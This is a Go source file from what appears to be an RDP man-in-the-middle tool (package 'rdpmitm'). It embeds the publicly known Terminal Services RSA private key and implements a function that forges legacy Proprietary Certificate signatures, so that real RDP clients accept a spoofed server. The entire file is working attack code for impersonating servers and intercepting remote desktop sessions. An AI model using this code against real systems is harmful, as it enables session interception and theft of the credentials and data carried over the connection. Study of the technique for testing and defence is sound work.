package rdpmitm

import (
	"crypto/md5"
	"math/big"
)

// terminalServicesKey is the well-known 512-bit "Terminal Services"
// RSA signing key published in [MS-RDPBCGR] §5.3.3.1.1. Its private
// exponent is public knowledge, which is what makes the legacy Proprietary
// Certificate format forgeable: anyone can produce a signature a genuine
// RDP client will accept as coming from "Microsoft's" signing authority.
// All three fields are little-endian, matching the wire representation.
var terminalServicesKey = struct {
	n []byte
	d []byte
	e []byte
}{
	n: []byte{
		0x3d, 0x3a, 0x5e, 0xbd, 0x72, 0x43, 0x3e, 0xc9, 0x4d, 0xbb, 0xc1,
		0x1e, 0x4a, 0xba, 0x5f, 0xcb, 0x3e, 0x88, 0x20, 0x87, 0xef, 0xf5,
		0xc1, 0xe2, 0xd7, 0xb7, 0x6b, 0x9a, 0xf2, 0x52, 0x45, 0x95, 0xce,
		0x63, 0x65, 0x6b, 0x58, 0x3a, 0xfe, 0xef, 0x7c, 0xe7, 0xbf, 0xfe,
		0x3d, 0xf6, 0x5c, 0x7d, 0x6c, 0x5e, 0x06, 0x09, 0x1a, 0xf5, 0x61,
		0xbb, 0x20, 0x93, 0x09, 0x5f, 0x05, 0x6d, 0xea, 0x87,
	},
	d: []byte{
		0x87, 0xa7, 0x19, 0x32, 0xda, 0x11, 0x87, 0x55, 0x58, 0x00, 0x16,
		0x16, 0x25, 0x65, 0x68, 0xf8, 0x24, 0x3e, 0xe6, 0xfa, 0xe9, 0x67,
		0x49, 0x94, 0xcf, 0x92, 0xcc, 0x33, 0x99, 0xe8, 0x08, 0x60, 0x17,
		0x9a, 0x12, 0x9f, 0x24, 0xdd, 0xb1, 0x24, 0x99, 0xc7, 0x3a, 0xb8,
		0x0a, 0x7b, 0x0d, 0xdd, 0x35, 0x07, 0x79, 0x17, 0x0b, 0x51, 0x9b,
		0xb3, 0xc7, 0x10, 0x01, 0x13, 0xe7, 0x3f, 0xf3, 0x5f,
	},
	e: []byte{0x5b, 0x7b, 0x88, 0xc0},
}

var (
	tsN = new(big.Int).SetBytes(reverseBytes(terminalServicesKey.n))
	tsD = new(big.Int).SetBytes(reverseBytes(terminalServicesKey.d))
)

// signCertificate signs cert (first5fields || pubkey_blob) with the
// Terminal Services private key and returns the signature serialized
// little-endian into exactly sigLen bytes. Padding follows the legacy
// scheme: MD5(cert) || 0x00 || 0xFF*45 || 0x01 interpreted as a
// little-endian integer, raised to the private exponent mod n.
func signCertificate(cert []byte, sigLen int) []byte {
	sum := md5.Sum(cert)
	padded := make([]byte, 0, len(sum)+1+45+1)
	padded = append(padded, sum[:]...)
	padded = append(padded, 0x00)
	for i := 0; i < 45; i++ {
		padded = append(padded, 0xff)
	}
	padded = append(padded, 0x01)

	m := new(big.Int).SetBytes(reverseBytes(padded))
	s := new(big.Int).Exp(m, tsD, tsN)

	sig := reverseBytes(s.Bytes())
	if len(sig) >= sigLen {
		return sig[:sigLen]
	}
	out := make([]byte, sigLen)
	copy(out, sig)
	return out
}
